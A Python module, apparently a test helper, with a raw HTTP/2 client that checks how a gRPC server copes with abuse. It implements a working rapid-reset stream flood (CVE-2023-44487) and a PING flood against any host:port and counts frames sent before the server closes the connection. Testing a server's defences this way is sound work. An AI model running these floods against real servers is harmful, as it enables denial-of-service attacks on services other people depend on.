"""An HTTP/2 client without manners: it does what no gRPC library would let a caller do."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator
from typing import Final

import h2.config
import h2.connection
import h2.errors
import h2.events

_CONFIG: Final = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")


class RawHttp2:
    """One connection to a gRPC server; see ``raw_http2``."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._http2 = h2.connection.H2Connection(_CONFIG)
        self._http2.initiate_connection()
        self._flush()
        self._reading = asyncio.create_task(self._read())

    @property
    def closed(self) -> bool:
        """Whether the server has ended the connection."""
        return self._reading.done()

    async def closes(self) -> None:
        """Wait until the server has ended the connection."""
        await self._reading

    async def open_and_reset(self, path: str, times: int) -> int:
        """Open streams and reset each at once (rapid reset, CVE-2023-44487); how many before it closed."""
        for number in range(times):
            if self.closed:
                return number
            stream = self._http2.get_next_available_stream_id()
            self._http2.send_headers(stream, _headers(path))
            self._http2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
            if number % 100 == 0:
                await self._drain()
        await self._drain()
        return times

    async def ping(self, times: int) -> None:
        """Send pings, until the server has had enough."""
        for number in range(times):
            if self.closed:
                return
            self._http2.ping(number.to_bytes(8))
            if number % 10 == 0:
                await self._drain()
        await self._drain()

    def close(self) -> None:
        """Break the connection."""
        self._writer.transport.abort()

    async def _drain(self) -> None:
        self._flush()
        with contextlib.suppress(ConnectionError):
            await self._writer.drain()

    def _flush(self) -> None:
        self._writer.write(self._http2.data_to_send())

    async def _read(self) -> None:
        with contextlib.suppress(ConnectionError):
            while data := await self._reader.read(65_536):
                events = self._http2.receive_data(data)
                self._flush()
                if any(isinstance(event, h2.events.ConnectionTerminated) for event in events):
                    break
        self.close()


@contextlib.asynccontextmanager
async def raw_http2(address: str) -> AsyncIterator[RawHttp2]:
    """Connect to host:port."""
    host, _, port = address.rpartition(":")
    connection = RawHttp2(*await asyncio.open_connection(host, int(port)))
    try:
        yield connection
    finally:
        connection.close()
        await connection.closes()


def _headers(path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", path),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
